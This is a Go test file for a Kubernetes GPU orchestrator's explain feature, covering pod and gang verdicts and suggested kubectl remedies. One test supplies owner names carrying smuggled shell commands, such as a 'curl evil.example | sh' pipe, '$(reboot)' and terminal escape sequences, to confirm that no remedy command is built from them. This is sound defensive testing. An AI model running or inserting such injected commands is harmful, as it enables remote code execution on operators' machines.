package explaining

import (
	"fmt"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"

	gpuv1alpha1 "github.com/reyisjones/gpu-orchestrator/api/v1alpha1"
	"github.com/reyisjones/gpu-orchestrator/core/explain"
)

// pod adds a plain pod with GPUs.
func (w *world) pod(name, node string, gpus int64, edits ...func(*corev1.Pod)) {
	p := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: "team", Name: name, UID: types.UID(name), Labels: map[string]string{}, Annotations: map[string]string{}},
		Spec: corev1.PodSpec{NodeName: node, SchedulerName: "default-scheduler", Containers: []corev1.Container{{Name: "c", Resources: corev1.ResourceRequirements{
			Requests: corev1.ResourceList{"nvidia.com/gpu": *resource.NewQuantity(gpus, resource.DecimalSI)},
		}}}},
	}
	for _, edit := range edits {
		edit(p)
	}
	w.state.SetPod(p)
	w.objects = append(w.objects, p)
}

func inGang(name string, size int) func(*corev1.Pod) {
	return func(p *corev1.Pod) {
		p.Labels[gpuv1alpha1.GangLabel], p.Labels[gpuv1alpha1.GangSizeLabel] = name, fmt.Sprint(size)
	}
}

func TestPods(t *testing.T) {
	w := newWorld(t, 2)
	w.put(gang("team", "w", 1, 8, on("n0")), true)
	w.pod("bound", "n1", 6)
	w.pod("small", "", 2)
	w.pod("large", "", 8)
	w.pod("odd", "", 1, func(p *corev1.Pod) { p.Annotations[gpuv1alpha1.RequiredLevelAnnotation] = "row" })
	w.pod("done", "n1", 8, func(p *corev1.Pod) { p.Status.Phase = corev1.PodSucceeded })
	for name, c := range map[string]struct {
		verdict string
		reason  explain.Reason
		says    string
	}{
		"bound": {"PLACED", explain.Running, "bound to n1 by scheduler default-scheduler"},
		"small": {"WAIT", explain.OtherScheduler, "it is for scheduler default-scheduler to bind it"},
		"large": {"ASK", explain.NotEnoughGPUs, "8 GPUs are needed and 2 GPUs are free"},
		"odd":   {"BROKEN", explain.InvalidSpec, "row"},
		"done":  {"ENDED", explain.Finished, "Succeeded"},
	} {
		t.Run(name, func(t *testing.T) {
			e, err := w.explainer(t).Pod(t.Context(), Ask{Name: types.NamespacedName{Namespace: "team", Name: name}})
			if err != nil {
				t.Fatal(err)
			}
			if e.Verdict != c.verdict || e.Reason != string(c.reason) || !strings.Contains(e.Message, c.says) || e.Subject != "pod" || e.Name != name {
				t.Errorf("%s %s, %s, %s: %s", e.Subject, e.Name, e.Verdict, e.Reason, e.Message)
			}
		})
	}
	// What is not ours is asked to leave by the means of its owner.
	e, err := w.explainer(t).Pod(t.Context(), Ask{Name: types.NamespacedName{Namespace: "team", Name: "large"}})
	if err != nil {
		t.Fatal(err)
	}
	if r := remedy(e, explain.Evict); len(r.Commands) != 1 || r.Commands[0] != "kubectl -n team delete pod bound" {
		t.Errorf("%+v", r)
	}
}

// Whoever makes a pod writes its owner as they like: what they write is no command for others.
func TestCommandsAreOfNamesThatObjectsCanHave(t *testing.T) {
	for owner, want := range map[string]string{
		"Job/train":                       `kubectl -n team patch job train --type=merge -p '{"spec":{"suspend":true}}'`,
		"Deployment/serve":                "kubectl -n team scale deployment serve --replicas=0",
		"StatefulSet/serve.v1":            "kubectl -n team scale statefulset serve.v1 --replicas=0",
		"Job/x; curl evil.example | sh #": "",
		"Job/$(reboot)":                   "",
		"StatefulSet/--all":               "",
		"Pod/x\nreboot":                   "",
		"ReplicaSet; reboot #/x":          "",
		"RayCluster/ray":                  "",
		"Job/x/y":                         "",
		"Job/\x1b]0;title\x07":            "",
	} {
		t.Run(owner, func(t *testing.T) {
			w := newWorld(t, 1)
			w.pod("holds", "n0", 8, func(p *corev1.Pod) {
				kind, name, _ := strings.Cut(owner, "/")
				p.OwnerReferences = []metav1.OwnerReference{{Kind: kind, Name: name, UID: "u", Controller: ptr.To(true)}}
			})
			w.pod("mine", "", 8)
			e, err := w.explainer(t).Pod(t.Context(), Ask{Name: types.NamespacedName{Namespace: "team", Name: "mine"}})
			if err != nil {
				t.Fatal(err)
			}
			r := remedy(e, explain.Evict)
			if len(r.Subjects) != 1 || strings.Join(r.Commands, "\n") != want {
				t.Errorf("%q of %q, want %q", r.Commands, r.Subjects, want)
			}
			if text := fmt.Sprint(*e); strings.ContainsAny(text, "\x1b\x07\n") {
				t.Errorf("it moves the terminal: %q", text)
			}
		})
	}
	if got, want := quoted("it's"), `'it'\''s'`; got != want {
		t.Errorf("quoted as %s, want %s", got, want)
	}
}

func TestGangsOfPods(t *testing.T) {
	w := newWorld(t, 3)
	w.pod("other", "n2", 8)
	w.pod("ring-0", "n0", 8, inGang("ring", 3))
	w.pod("ring-1", "", 8, inGang("ring", 3))
	ask := Ask{Name: types.NamespacedName{Namespace: "team", Name: "ring"}}
	e, err := w.explainer(t).Gang(t.Context(), ask)
	if err != nil {
		t.Fatal(err)
	}
	if e.Verdict != "ASK" || e.Subject != "gang" || !strings.Contains(strings.Join(e.Notes, " "), "2 of the 3 pods of the gang are there") {
		t.Errorf("%s, %s: %s %q", e.Subject, e.Verdict, e.Message, e.Notes)
	}
	if len(e.Misses) == 0 || e.Misses[0].Need != 2 || e.Misses[0].Room != 1 {
		t.Errorf("%+v", e.Misses)
	}
	w.pod("grouped", "", 8, func(p *corev1.Pod) {
		p.Spec.SchedulingGroup = &corev1.PodSchedulingGroup{PodGroupName: ptr.To("group")}
	})
	ask.Name.Name = "group"
	if e, err := w.explainer(t).Gang(t.Context(), ask); err != nil || e.Misses != nil || e.Reason != string(explain.OtherScheduler) {
		t.Errorf("a PodGroup: %+v, %v", e, err)
	}
	ask.Name.Name = "nothing"
	if _, err := w.explainer(t).Gang(t.Context(), ask); !apierrors.IsNotFound(err) {
		t.Errorf("no such gang: %v", err)
	}
}

// A gang's pods need not be alike: a leader without GPUs does not stand for its workers.
func TestGangsOfUnequalPods(t *testing.T) {
	for name, c := range map[string]struct {
		sizes   []int64
		size    int
		verdict string
		reason  explain.Reason
	}{
		"a leader and workers for whom there is no room": {[]int64{0, 8, 8}, 3, "ASK", explain.NotEnoughGPUs},
		"of whom most are not there yet":                 {[]int64{0, 8, 8}, 4, "ASK", explain.NotEnoughGPUs},
		"a leader who is the largest":                    {[]int64{8, 4}, 2, "WAIT", explain.OtherScheduler},
		"for all of whom there is room":                  {[]int64{1, 4, 4}, 3, "WAIT", explain.OtherScheduler},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, 3)
			w.pod("other", "n0", 8)
			if c.verdict == "ASK" {
				w.pod("another", "n1", 8)
			}
			for i, gpus := range c.sizes {
				w.pod(fmt.Sprintf("g-%d", i), "", gpus, inGang("g", c.size))
			}
			e, err := w.explainer(t).Gang(t.Context(), Ask{Name: types.NamespacedName{Namespace: "team", Name: "g"}})
			if err != nil {
				t.Fatal(err)
			}
			if e.Verdict != c.verdict || e.Reason != string(c.reason) {
				t.Errorf("%s, %s: %s", e.Verdict, e.Reason, e.Message)
			}
		})
	}
}
